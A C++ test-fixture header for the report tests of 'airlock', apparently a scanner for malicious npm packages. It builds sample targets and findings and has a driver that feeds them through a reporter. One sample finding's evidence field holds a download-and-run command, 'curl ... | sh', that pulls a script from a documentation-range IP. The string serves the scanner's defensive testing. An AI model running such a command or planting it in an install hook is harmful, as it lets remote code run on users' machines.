// Shared fixtures for the report_*_test.cpp files: sample targets/findings and a driver that
// feeds a scenario through a reporter the way the CLI does (reporter + SummarySink in a Tee).
#pragma once

#include <sstream>
#include <string>
#include <vector>

#include "airlock/core/sink.h"
#include "airlock/report/reporter.h"

namespace airlock::report::testing {

inline TargetInfo make_target(int id, std::string path, std::string name = "x",
                              std::string version = "1.0.0") {
  return TargetInfo{id, std::move(path), "npm-tarball", std::move(name), std::move(version), "ab12",
                    ""};
}

inline Finding make_finding(int target, Severity s,
                            std::string rule = "install-hook-download-exec") {
  Finding f;
  f.rule = std::move(rule);
  f.severity = s;
  f.category = Category::kDownloadExec;
  f.message = "postinstall downloads a script and pipes it to a shell";
  f.target = target;
  f.location = Location{"package.json", 7};
  f.evidence = "curl -s http://203.0.113.7/i.sh | sh";
  f.attack = {"T1059.004", "T1105"};
  f.references = {"SAFE-T1006"};
  return f;
}

struct Scenario {
  std::vector<TargetInfo> targets;
  std::vector<Finding> findings;
  std::vector<TargetError> errors;
  Severity fail_on = Severity::kHigh;
};

// Announces each target, then its findings and errors; errors without a target come last.
inline std::string render(Format format, const Scenario& sc, SummarySink* summary = nullptr,
                          ReporterOptions options = {}) {
  std::ostringstream out;
  auto rep = make_reporter(format, out, options);
  SummarySink local;
  TeeSink sink({rep.get(), summary ? summary : &local});
  sink.begin({"scan", sc.fail_on});
  for (const auto& t : sc.targets) {
    sink.target(t);
    for (const auto& f : sc.findings) {
      if (f.target == t.id) sink.finding(f);
    }
    for (const auto& e : sc.errors) {
      if (e.target == t.id) sink.error(e);
    }
  }
  for (const auto& e : sc.errors) {
    if (e.target < 0) sink.error(e);
  }
  sink.end();
  return out.str();
}

}  // namespace airlock::report::testing
